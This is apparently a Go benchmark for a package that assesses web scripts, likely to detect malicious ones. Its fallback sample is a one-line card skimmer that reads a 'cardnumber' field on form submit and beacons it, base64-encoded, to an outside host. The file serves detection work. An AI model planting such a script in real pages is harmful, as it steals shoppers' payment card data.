package script_test

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"tradecraft/intake/site/script"
)

// BenchmarkAssess reads the scripts of a folder (SCRIPTS=DIR), or one script
// of this package's tests.
func BenchmarkAssess(b *testing.B) {
	var texts [][]byte
	size := 0
	if dir := os.Getenv("SCRIPTS"); dir != "" {
		names, _ := filepath.Glob(filepath.Join(dir, "*.txt"))
		for _, n := range names {
			t, err := os.ReadFile(n)
			if err != nil {
				b.Fatal(err)
			}
			texts = append(texts, t)
			size += len(t)
		}
	}
	if len(texts) == 0 {
		t := []byte("document.addEventListener('submit',function(){var c=document.querySelector('[name=cardnumber]').value;navigator.sendBeacon('https://a.top/c',btoa(c))})")
		texts, size = [][]byte{t}, len(t)
	}
	script.Embedded()
	b.SetBytes(int64(size))
	for b.Loop() {
		for _, t := range texts {
			if _, _, err := script.Assess(context.Background(), t, script.Options{}); err != nil {
				b.Fatal(err)
			}
		}
	}
}
